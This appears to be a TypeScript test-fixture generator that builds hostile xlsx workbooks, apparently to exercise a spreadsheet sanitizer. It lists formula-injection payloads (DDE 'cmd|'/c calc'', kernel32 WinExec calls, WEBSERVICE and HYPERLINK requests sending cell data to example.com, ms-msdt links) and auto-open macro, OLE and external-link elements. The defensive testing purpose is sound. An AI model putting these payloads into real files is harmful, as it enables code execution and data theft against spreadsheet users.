import { oddElements } from './hostile-elements.ts'
import { hostilePackages } from './hostile-packages.ts'
import { listedLinks } from './hostile-properties.ts'
import { bookEntries, type Link, storedBook } from './made-office.ts'
import { makeZip } from './made-zip.ts'
import { escapeXml, spellings } from './office-spellings.ts'
import { attributePlaces, bookPlaces, bookWith, formulaForms } from './written-books.ts'

const MAIN = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'
const IDS = 'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"'
const FORMAT = 'application/vnd.openxmlformats-officedocument'

/** Formulas that reach beyond their workbook. */
export const hostileFormulas = String.raw`
cmd|'/c calc'!A0
'cmd'|'/c calc'!A0
DDE|'a b'!c
excel|'\\host\[a.xls]S'!R1C1
cmd_x007c_'/c calc'!A0
cmd_x007c_a!A0
WEBSERVICE_x0028_"http://example.com")
WEBSERVICE("http://example.com/?a="&A1)
_xlfn.WEBSERVICE("http://example.com")
_xlfn.WEBSERVICE ("http://example.com")
FILTERXML(A1,"//a")
_xlfn.IMAGE("http://example.com/a.png")
_xlfn.STOCKHISTORY("MSFT",1)
_xlfn._xlws.PY("import os",1)
_xlfn.TRANSLATE(A1,"en","ja")
_xlfn.COPILOT("a")
_xlfn.DETECTLANGUAGE(A1)
_xlfn.LET(_xlpm.f,_xleta.WEBSERVICE,_xlpm.f("http://example.com"))
_xlfn.LET(_xlpm.f,WEBSERVICE,_xlpm.f("http://example.com"))
_xlfn.LET(_xlpm.f,IF(1,HYPERLINK,SUM),_xlpm.f ("file:///c:/a.exe"))
_xlfn.LET(_xlpm.f,INDIRECT,_xlpm.f("[a.xlsx]S!A1"))
LAMBDA(_xlpm.f,_xlpm.f("http://example.com"))(IMAGE)
_xlfn.MAP(A1:A2,WEBSERVICE)
_xlfn.REDUCE("",A1:A3,HYPERLINK)
_xlfn.MAP(A1:A2,_xleta.WEBSERVICE)
_xlfn.MAP(A1:A2,_xleta.HYPERLINK)
(WEBSERVICE)("http://example.com")
( WEBSERVICE )("http://example.com")
(WEBSERVICE) ("http://example.com")
IF(TRUE,WEBSERVICE)("http://example.com")
((WEBSERVICE))("http://example.com")
RTD("a",,"b")
CALL("kernel32","WinExec","JCJ","calc",0)
REGISTER("kernel32","WinExec","JCJ","a")
REGISTER.ID("kernel32","WinExec")
EXEC("calc")
SQL.REQUEST("DSN=a","","","SELECT 1")
DDE("soffice","file:///a","b")
IMPORTDATA("http://example.com")
IMPORTXML("http://example.com","//a")
CUBEVALUE("a","b")
CUBEMEMBER("a","b")
EVALUATE("1+1")
GET.WORKSPACE(1)
RUN("a")
FOPEN("a")
Macro1()
_xll.Func(1)
[1]Sheet1!A1
[1]!name
'[1]Sheet1'!A1
[Book.xlsx]Sheet1!A1
'[Book.xlsx]経歴'!A1
'C:\a\[Book.xlsx]S'!A1
'\\host\share\[Book.xlsx]S'!A1
'http://example.com/[Book.xlsx]S'!A1
'file:///C:/a.xlsx'#$S.A1
\\host\share
Book.xlsm!Macro1()
'Book.xlsm'!SUM(1)
HYPERLINK("file:///c:/a.exe","a")
HYPERLINK("\\host\a","a")
HYPERLINK(A1,"a")
HYPERLINK("http://example.com/?"&A1,"a")
HYPERLINK("ms-msdt:/id","a")
HYPERLINK("javascript:1","a")
HYPERLINK("a.xlsx","a")
HYPERLINK ("search-ms:query=a","a")
INDIRECT("'\\host\share\[a.xlsx]S'!A1")
INDIRECT("[a.xlsx]S!A1")
INDIRECT("'file:///c:/a.xlsx'#$S.A1")
SUM(1)cmd|'a'!b
"a"&cmd|'a'!b
Table1[[#This Row],[a]]cmd|'a'!b
A1｜B1
${'`'}cmd${'`'}
A1"
'A1
[A1
http://example.com/a!A1
file:///c:/a!A1
`
  .trim()
  .split('\n')

const elements: Record<string, string> = {
  'an object': '<oleObjects><oleObject progId="Package" shapeId="1" r:id="rId9"/></oleObjects>',
  'a linked object':
    '<oleObjects><oleObject link="[1]!a" oleUpdate="OLEUPDATE_ALWAYS" shapeId="1"/></oleObjects>',
  'another book': '<externalReferences><externalReference r:id="rId9"/></externalReferences>',
  'a link by DDE': '<ddeLink ddeService="cmd" ddeTopic="/c calc"/>',
  'a connection': '<connections><connection id="1"/></connections>',
  'a table of a query': '<queryTable name="a" connectionId="1"/>',
  'a table of the web': '<webPr url="http://example.com"/>',
  'a page of the web':
    '<webPublishItems count="1"><webPublishItem id="1" destinationFile="\\\\host\\a.htm"/></webPublishItems>',
  'a map of XML': '<MapInfo SelectionNamespaces=""/>',
  'values of a service': '<volTypes><volType type="realTimeData"/></volTypes>',
  'a name that starts': '<definedName name="Auto_Open">経歴!$A$1</definedName>',
  'a name that starts, hidden':
    '<definedName name="_xlnm.Auto_Open" hidden="1">経歴!$A$1</definedName>',
  'a name that starts with more': '<definedName name="auto_open1">経歴!$A$1</definedName>',
  'a name that ends': '<definedName name="AUTO_CLOSE">経歴!$A$1</definedName>',
  'a macro as name': '<definedName name="a" xlm="1" function="1">経歴!$A$1</definedName>',
  'a procedure as name': '<definedName name="a" vbProcedure="true">1</definedName>',
  'a macro of a shape':
    '<xdr:sp xmlns:xdr="http://schemas.openxmlformats.org/drawingml/2006/spreadsheetDrawing" macro="[0]!a" textlink=""/>',
  'a macro of a picture':
    '<xdr:pic xmlns:xdr="http://schemas.openxmlformats.org/drawingml/2006/spreadsheetDrawing" macro="a"/>',
  'a macro of a control': '<controlPr macro="[0]!a" r:id="rId9"/>',
  'a macro of VML': '<x:FmlaMacro xmlns:x="urn:schemas-microsoft-com:office:excel">a</x:FmlaMacro>',
  'a script of VML':
    '<x:ScriptText xmlns:x="urn:schemas-microsoft-com:office:excel">a</x:ScriptText>',
  'a DDE of VML': '<x:DDE xmlns:x="urn:schemas-microsoft-com:office:excel"/>',
  'a pivot table of elsewhere': '<cacheSource type="external" connectionId="1"/>',
  'a model':
    '<x15:dataModel xmlns:x15="http://schemas.microsoft.com/office/spreadsheetml/2010/11/main"/>',
  'a cube by a slicer':
    '<x14:olap xmlns:x14="http://schemas.microsoft.com/office/spreadsheetml/2009/9/main" pivotCacheId="1"/>',
  'a newer connection':
    '<x15:connection xmlns:x15="http://schemas.microsoft.com/office/spreadsheetml/2010/11/main" id="a"/>',
  'Power Query':
    '<DataMashup xmlns="http://schemas.microsoft.com/DataMashup">UEsDBA==</DataMashup>',
  Python:
    '<p:pythonScript xmlns:p="http://schemas.microsoft.com/office/spreadsheetml/2023/python"/>',
  'code elsewhere':
    '<e:externalCodeService xmlns:e="http://schemas.microsoft.com/office/spreadsheetml/2023/externalCodeService"/>',
  'a picture of the web':
    '<w:webImagesSrd xmlns:w="http://schemas.microsoft.com/office/spreadsheetml/2020/richdatawebimage"/>',
  'a place in another book':
    '<hyperlinks><hyperlink ref="A1" location="[a.xlsx]S!A1"/></hyperlinks>',
  'a place by DDE': '<hyperlinks><hyperlink ref="A1" location="cmd|a!b"/></hyperlinks>',
  'a place on a share': '<hyperlinks><hyperlink ref="A1" location="\\\\host\\a"/></hyperlinks>',
  ...Object.fromEntries(
    [
      'javascript:1',
      'ms-msdt:/id',
      '//host/a',
      'C:/a.exe',
      'mailto:a?attach=b',
      'search-ms:a',
      'calc.exe',
      'a/b.xlsx!A1',
      "'b.xls'!A1",
      'a.hta ',
    ].map((place) => [
      `a place at ${place}`,
      `<hyperlinks><hyperlink ref="A1" location="${place}"/></hyperlinks>`,
    ]),
  ),
  ...oddElements,
  'a sheet of macros':
    '<xm:macrosheet xmlns:xm="http://schemas.microsoft.com/office/excel/2006/main"/>',
  'a bound by DDE':
    '<conditionalFormatting><cfRule type="dataBar"><dataBar><cfvo type="formula" val="cmd|a!b"/></dataBar></cfRule></conditionalFormatting>',
  'a formula behind an element':
    '<sheetData><row><c><f><v/>WEBSERVICE(1)</f></c></row></sheetData>',
  'an area of another book':
    '<dataConsolidate><dataRefs><dataRef sheet="[a.xlsx]S"/></dataRefs></dataConsolidate>',
  'a source in another book':
    '<cacheSource type="worksheet"><worksheetSource sheet="[a.xlsx]S"/></cacheSource>',
  'a table of a connection': '<table connectionId="1"/>',
  'a cube': '<mdxMetadata count="1"><mdx n="0" f="v"/></mdxMetadata>',
  'data of a chart elsewhere':
    '<c:externalData xmlns:c="http://schemas.openxmlformats.org/drawingml/2006/chart" r:id="rId9"/>',
  'a ribbon': '<customUI xmlns="http://schemas.microsoft.com/office/2006/01/customui" onLoad="a"/>',
}

const relationships =
  'externalLink externalLinkPath connections queryTable oleObject package control vbaProject xlMacrosheet xlIntlMacrosheet dialogsheet xmlMaps volatileDependencies powerPivotData attachedToolbars activeXControlBinary webextension aFChunk worksheet drawing image sharedStrings styles theme customXml pivotCacheDefinition comments'.split(
    ' ',
  )
const INSIDE = new Set(relationships.slice(0, 18))
const targets =
  String.raw`file:///c:/a.exe \\host\share //host/a c:\a.exe ms-msdt:/id search-ms:query=a javascript:1 vbscript:1 data:text/html,a ms-excel:ofe|u|http://a ftp://a a.xlsx ../a.xlsx smb://a http:\\a file:a`.split(
    ' ',
  )
const types =
  'application/vnd.ms-excel.sheet.macroEnabled.main+xml application/vnd.ms-office.vbaProject application/vnd.ms-excel.macrosheet+xml application/vnd.ms-excel.intlmacrosheet+xml application/vnd.ms-excel.sheet.binary.macroEnabled.main application/vnd.ms-excel.attachedToolbars application/vnd.openxmlformats-officedocument.spreadsheetml.dialogsheet+xml application/vnd.openxmlformats-officedocument.spreadsheetml.externalLink+xml application/vnd.openxmlformats-officedocument.spreadsheetml.connections+xml application/vnd.openxmlformats-officedocument.spreadsheetml.queryTable+xml application/vnd.openxmlformats-officedocument.spreadsheetml.volatileDependencies+xml application/vnd.openxmlformats-officedocument.oleObject application/vnd.ms-office.activeX+xml application/vnd.ms-excel.rdrichvaluewebimage+xml application/vnd.openxmlformats-officedocument.model+data application/vnd.ms-office.webextension+xml text/html application/octet-stream application/pdf'.split(
    ' ',
  )

/** Workbooks each of which reaches beyond itself: by what does it, where it lies and how it is written. */
export function* hostileBooks(): Generator<[string, Buffer]> {
  yield* formulas()
  yield* parts()
  yield* leads()
  yield* listedLinks(targets, storedBook)
  yield* hostilePackages(bookEntries(), 'xl/workbook.xml', makeZip)
}

function* formulas(): Generator<[string, Buffer]> {
  const written = Object.entries(spellings)
  const forms = Object.entries(formulaForms)
  let turn = 0
  for (const formula of hostileFormulas) {
    for (const [place, put] of Object.entries(bookPlaces)) {
      const [form, write] = forms[turn % forms.length] ?? []
      const [spelling, spell] = written[Math.floor(turn / 5) % written.length] ?? []
      turn += 1
      if (write) yield [`${formula} ${form} in ${place}, ${spelling}`, put(write(formula), spell)]
    }
    for (const [place, put] of Object.entries(attributePlaces))
      yield [`${formula} in ${place}`, put(escapeXml(formula))]
    for (const [form, write] of forms)
      yield [`${formula} ${form} in a cell`, inCell(write(formula))]
  }
}

function inCell(formula: string): Buffer {
  return bookPlaces['a cell']?.(formula) ?? storedBook()
}

function* parts(): Generator<[string, Buffer]> {
  const drawing = `${FORMAT}.drawing+xml`
  for (const [name, xml] of Object.entries(elements)) {
    for (const [spelling, spell] of Object.entries(spellings)) {
      const content = spell(`<worksheet ${MAIN} ${IDS}>${xml}</worksheet>`)
      yield [
        `${name} in a sheet, ${spelling}`,
        storedBook({ parts: [{ name: 'xl/worksheets/sheet1.xml', content }] }),
      ]
      yield [`${name} in a drawing, ${spelling}`, bookWith('drawing', drawing, content)]
    }
    const content = xml.replace(
      /^<([\w:]+)/,
      (tag) =>
        `${tag} ${IDS}${/^<\w+[ />]/.test(xml) && !xml.includes(' xmlns="') ? ` ${MAIN}` : ''}`,
    )
    yield [`${name} as a part`, bookWith('drawing', drawing, content)]
  }
  const mashup = elements['Power Query'] ?? ''
  for (const [spelling, spell] of Object.entries(spellings))
    yield [
      `Power Query as data, ${spelling}`,
      storedBook({
        parts: [{ name: 'customXml/item1.xml', content: spell(mashup) }],
        links: [{ type: 'customXml', target: '../customXml/item1.xml' }],
      }),
    ]
  for (const type of types) {
    yield [`a part of ${type}`, bookWith('worksheet', type, '<a/>')]
    yield [
      `a lost part of ${type}`,
      storedBook({ parts: [{ name: 'xl/a.dat', content: 'a' }], types: { '/xl/a.dat': type } }),
    ]
  }
}

function* leads(): Generator<[string, Buffer]> {
  const books = (name: string, link: Link): [string, Buffer][] => [
    [name, storedBook({ links: [link] })],
    [`${name}, of the package`, storedBook({ rootLinks: [link] })],
  ]
  for (const type of relationships) {
    yield* books(`${type} outside`, { type, target: 'http://example.com/a', isOutside: true })
    if (INSIDE.has(type)) yield* books(`${type} inside`, { type, target: 'xl/workbook.xml' })
  }
  for (const target of targets)
    yield* books(`a link to ${target}`, { type: 'hyperlink', target, isOutside: true })
}
